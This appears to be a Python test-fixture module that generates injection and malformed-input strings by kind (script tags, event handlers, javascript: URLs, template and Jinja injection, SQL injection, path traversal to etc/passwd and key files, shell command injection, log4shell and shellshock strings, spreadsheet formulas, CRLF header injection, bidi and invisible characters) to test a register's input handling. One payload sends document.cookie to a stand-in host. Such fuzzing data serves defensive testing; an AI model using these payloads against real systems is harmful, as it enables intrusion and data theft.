"""Strings that have broken programs, of our own making: about eighty of each kind.

Each kind is a few payloads put into many frames, so that what matters is how a text is quoted and
not which words are in it. `KINDS` says by kind whether the register keeps such a text as it is
(`KEPT`) or refuses it (`REFUSED`); what is `MIXED` holds both.

Source: security.md E10, E17; OWASP's names of the weaknesses.
"""

import unicodedata
from collections.abc import Iterable, Mapping
from enum import StrEnum
from itertools import islice, product

EACH = 80


class Fate(StrEnum):
    """What the register does with the texts of a kind."""

    KEPT = "kept"
    REFUSED = "refused"
    MIXED = "mixed"


def _words(line: str) -> tuple[str, ...]:
    return tuple(line.split())


def _in(frames: Iterable[str], payloads: Iterable[str]) -> tuple[str, ...]:
    """Put every payload into every frame, at the place of `~`."""
    made = (frame.replace("~", payload) for frame, payload in product(frames, payloads))
    return tuple(islice(dict.fromkeys(made), EACH))


def _inside(pieces: Iterable[str]) -> tuple[str, ...]:
    """Put every piece into words: inside, doubled, between letters and signs."""
    return _in(("Sol~berg", "Anne~ ~Marie", "A~~B", "Nurse (~) RN", "1~2", "a~b~c"), pieces)


_RUN = ("alert(1)", "fetch('//x.test/'+document.cookie)", "top[`al`+`ert`](1)", "eval(name)")
_EVENTS = _words(
    "onload onerror onfocus onblur onclick onmouseover onpointerenter onanimationstart ontoggle "
    "onbegin onwheel oninput onsubmit onhashchange onpageshow onscroll onkeydown onpaste ondrag "
    "onresize"
)
_SUMS = ("7*7", "'7'*7", "7|add:7", "config", "self.__class__.__mro__", "range(9**9)")
_QUERY = ("OR 1=1", "UNION SELECT token FROM actors", "; DROP TABLE license", "AND sleep(9)")
_ABOVE = ("etc/passwd", "secrets/master.key", "windows/win.ini", "register.db", "keys/ncp-no")
_WORDS = _words(
    "null NULL nil None undefined undef NaN Infinity -Infinity true false TRUE void this self "
    "constructor __proto__ prototype toString hasOwnProperty object Object [object license-card"
)
_MARKS = ("\u0301", "\u0335", "\u20dd", "\u0338", "\u0f39", "\u0489", "\u3099", "\u1ab0")
_SIGNS = _words("😀 👩‍⚕️ 👨🏿‍🦽 🇳🇴 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ☃️ 1️⃣ 🫶🏽 🧑🏻‍🤝‍🧑🏾 ❤ ☎ ♻ 𝕹𝖚𝖗𝖘𝖊 ㊙ ﷽ ꧅ 𒐫")
_DIGITS = _words("٠١٢ ۴۵۶ ०१२ ໐໑ ๓๔ ⅧⅨ ①② ½¾ 一二 𝟘𝟙 ፩፪ ੧੨ ௧௨ ⁴⁵ ₆₇ Ⅻ 〇")

KINDS: Mapping[str, tuple[Fate, tuple[str, ...]]] = {
    "script elements": (
        Fate.KEPT,
        _in(
            (
                "<script>~</script>", '"><script>~</script>', "'><script>~//", "</script><script>~",
                "</title><script>~</script>", "--><script>~</script>", "<script/src=data:,~>",
                "<ScRiPt >~</sCrIpT>", "<<script>~//<</script>", "</textarea><script>~</script>",
                "<svg><script>~</script>", "<script\u00a0>~</script>", "]]><script>~</script>",
                "<noscript><p title='</noscript><script>~</script>'>", "<math><mtext><script>~",
                "<template><script>~</script>", "</style><script>~</script>", "<xmp><script>~",
                "<script type=module>~</script>", "<iframe srcdoc='<script>~</script>'>",
            ),
            _RUN,
        ),
    ),
    "event handlers": (
        Fate.KEPT,
        _in(
            ("<img src=x ~=alert(1)>", '" ~="alert(1)', "' ~='alert(1)", "x ~=alert(1) autofocus"),
            _EVENTS,
        ),
    ),
    "quotes and brackets": (
        Fate.KEPT,
        _in(
            ('"~"', "'~'", "`~`", "\\~\\", "<~>", "&~;", "~>", "«~»", "„~“", "‹~›"),
            ("", '"', "'", "''", '\\"', "&quot;", "&#39;", "><"),
        ),
    ),
    "script addresses": (
        Fate.KEPT,
        _in(
            (
                "javascript:~", "JaVaScRiPt:~", "data:text/html,<script>~</script>", "vbscript:~",
                "<a href=javascript:~>", "//x.test/~", "https://x.test/?~",
                "<base href=//x.test/~>",
                "<form action=//x.test/~>", "<link rel=import href=~>", "url(javascript:~)",
                "<meta http-equiv=refresh content=0;url=~>", "<object data=~>", "<embed src=~>",
                "java&#10;script:~", "&#106;avascript:~", "%6aavascript:~", "<svg><a xlink:href=~>",
                "<style>@import'~'</style>", "<div style=background:url(~)>",
            ),
            _RUN,
        ),
    ),
    "template marks": (
        Fate.KEPT,
        _in(
            (
                "{{~}}", "${~}", "<%= ~ %>", "#{~}", "{%~%}", "{{{~}}}", "[[~]]", "@(~)", "*{~}",
                "$(~)", "{#~#}", "<?= ~ ?>", "%{~}", "{{=~=}}",
            ),
            _SUMS,
        ),
    ),
    "jinja statements": (
        Fate.KEPT,
        _in(
            (
                "{% if ~ %}", "{% for a in ~ %}{% endfor %}", "{% include '~' %}", "{% raw %}~",
                "{{ ~|safe }}", "{{ view.~ }}", "{% set x = ~ %}", "{% extends '~' %}", "{#- ~ -#}",
                "{{ cycler.__init__.__globals__.~ }}", "{%- macro ~() -%}", "{{ '~'|attr('x') }}",
                "{% autoescape false %}~", "{{ ~ }}}}",
            ),
            _SUMS,
        ),
    ),
    "typst markup": (
        Fate.KEPT,
        _in(
            (
                "#~", "#let x = ~", '#read("~")', "#eval(`~`)", "$ ~ $", "*~*", "_~_", "= ~", "<~>",
                "@~", "#{~}", "#[~]", "\\u{~}", "`~`", "```~```", "// ~", "/* ~", "~~~~",
                "#import ~",
                "#image(~)",
            ),
            ("sys.inputs", "panic()", "context here()", "1/0"),
        ),
    ),
    "markdown": (
        Fate.KEPT,
        _in(
            (
                "**~**", "# ~", "[~](javascript:alert(1))", "![~](//x.test/a.png)", "~\\_", "> ~",
                "- [ ] ~", "| ~ | ~ |", "```~", "<!-- ~ -->", "~[^1]", ":::~", "***~", "1. ~",
                "[~]: //x.test", "<~@x.test>",
            ),
            ("Nurse", "x", "*", "[x]", "`"),
        ),
    ),
    "SQL": (
        Fate.KEPT,
        _in(
            (
                "' ~ --", "'; ~ --", '" ~ #', "') ~ --", "1 ~", "%' ~ /*", "\\' ~ --",
                "'/**/~/**/'",
                "`; ~ --", "'||(~)||'", "0x27 ~", "_%~%_", "'; EXEC('~')", "$$ ~ $$", "E'\\x27' ~",
                "ʼ ~ --", "＇ ~ --", "*) ~ (|", "?~?", ":name ~",
            ),
            _QUERY,
        ),
    ),
    "paths": (
        Fate.KEPT,
        _in(
            (
                "../~", "..\\~", "/~", "....//~", "%2e%2e%2f~", "..%252f~", "file:///~", "~::$DATA",
                "C:\\~", "\\\\x.test\\~", "./../~", "/proc/self/root/~", "~%00.pdf", "..;/~",
                "..／~",
                "jar:file:///~!/",
            ),
            _ABOVE,
        ),
    ),
    "format strings": (
        Fate.KEPT,
        _in(
            ("%~", "%%~", "{~}", "{0.~}", "{~!r}", "%(~)s", "%1$~", "${~}", "{:~}", "\\~"),
            ("s", "n", "x", "d", "999999999d", "__class__", "p%p%p", "*"),
        ),
    ),
    "words of machines": (Fate.KEPT, _in(("~", "(~)", '"~"', "~.~"), _WORDS)),
    "commands": (
        Fate.KEPT,
        _in(
            (
                "$(~)", "`~`", "; ~", "| ~", "|| ~", "&& ~", "& ~ &", "> ~", "%~%", "${IFS}~",
                "<(~)", "!~", "-~", "--~=x", "${jndi:ldap://x.test/~}", "() { :;}; ~",
            ),
            ("id", "sleep 9", "cat /etc/passwd", "ping x.test", "reboot"),
        ),
    ),
    "formulas of sheets": (
        Fate.KEPT,
        _in(
            ("=~", "+~", "-~", "@~", '="~"', ";=~", ",=~", "=~|'!A1"),
            (
                "cmd|'/C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("//x.test")', "IMPORTXML(A1)",
                "WEBSERVICE(A1)", "DDE(1)", "2+5+cmd", "A1", "@SUM(1)",
            ),
        ),
    ),
    "entities and sections": (
        Fate.KEPT,
        _in(
            (
                "&~;", "&#~;", "&#x~;", "<![CDATA[~]]>", "]]>~", "<!--~-->", "<?~?>", "<!ENTITY ~>",
                "<!DOCTYPE ~>", "&amp;~", "</~>", "<~/>", "<x:~ xmlns:x='urn:x'/>", "]]&gt;~", "&~",
                "<ds:Signature>~",
            ),
            ("lt", "60", "amp", "xxe", "0"),
        ),
    ),
    "broken JSON": (
        Fate.KEPT,
        _in(
            (
                '"~', '",~', '"}~', '"]}~', "\\u~", "\\~", "{~", "[~", '{"~":1}', '","~":"',
                "\\\\~", "//~", "/*~*/", '"""~', "'~\":", "\\x~",
            ),
            ("0000", "d800", "a", "kind", "}"),
        ),
    ),
    "marks that pile up": (
        Fate.MIXED,
        _in(("a~", "~a", "Zoe~", "S~S~", "a~~~~~~~~b", "e~́", "~", "I~i", "ﬁ~", "Å~"), _MARKS),
    ),
    "emoji and ligatures": (Fate.MIXED, _in(("~", "Nurse ~", "~~", "a~b", "(~)"), _SIGNS)),
    "digits of other scripts": (Fate.KEPT, _in(("~", "HPR ~", "~/~", "-~", "~.~"), _DIGITS)),
    "very long": (
        Fate.MIXED,
        tuple(
            piece * times
            for piece, times in product(
                ("a", "Wort", "ẞ", "漢", "<b>", "&", "a ", "é", "ﷺ", "\u0344", "😀", "'", "a\u0301",
                 "ǆ", "ﬀ", "/.."),
                (60, 100, 299, 301, 400),
            )
        ),
    ),
    "controls": (
        Fate.REFUSED,
        _inside(("\x00", "\x01", "\x07", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\x9b", "\t",
                 "\ufffe", "\ue000", "\U000e0041", "\u2028")),
    ),
    "line ends": (
        Fate.REFUSED,
        _inside(("\r\n", "\n", "\r", "\r\nSet-Cookie: a=b", "\r\n\r\n<html>", "\nX: 1", "\u2029",
                 "\n\n", "\r\nLocation: //x.test", "\n\x00", "\v\n", "\f", "\x1c", "\x1e")),
    ),
    "direction": (
        Fate.REFUSED,
        _inside(("\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068",
                 "\u2069", "\u200e", "\u200f", "\u061c", "\u202egpj.", "\u2067\u2066")),
    ),
    "unseen": (
        Fate.REFUSED,
        _inside(("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2061",
                 "\u2063", "\ufff9", "\U0001d173", "\u206a", "\U000e0001", "\u070f")),
    ),
    "spaces around": (
        Fate.REFUSED,
        _in(
            (" ~", "~ ", " ~ ", "\u00a0~", "~\u3000", "~\u2003", "\u1680~", "~\u202f"),
            ("Nurse", "a", "<b>", "é", "Anne Marie", "'", "漢", "=1", "-", "0"),
        ),
    ),
}  # fmt: skip
"""By kind: what becomes of its texts in the register, and the texts."""

STRINGS = tuple(text for _, texts in KINDS.values() for text in texts)


def some(number: int) -> tuple[str, ...]:
    """Return that many texts of each kind, from all over it."""
    return tuple(
        text for _, texts in KINDS.values() for text in texts[:: max(1, len(texts) // number)]
    )


def nfc(text: str) -> str:
    """Return the text as the register keeps it where it does."""
    return unicodedata.normalize("NFC", text)
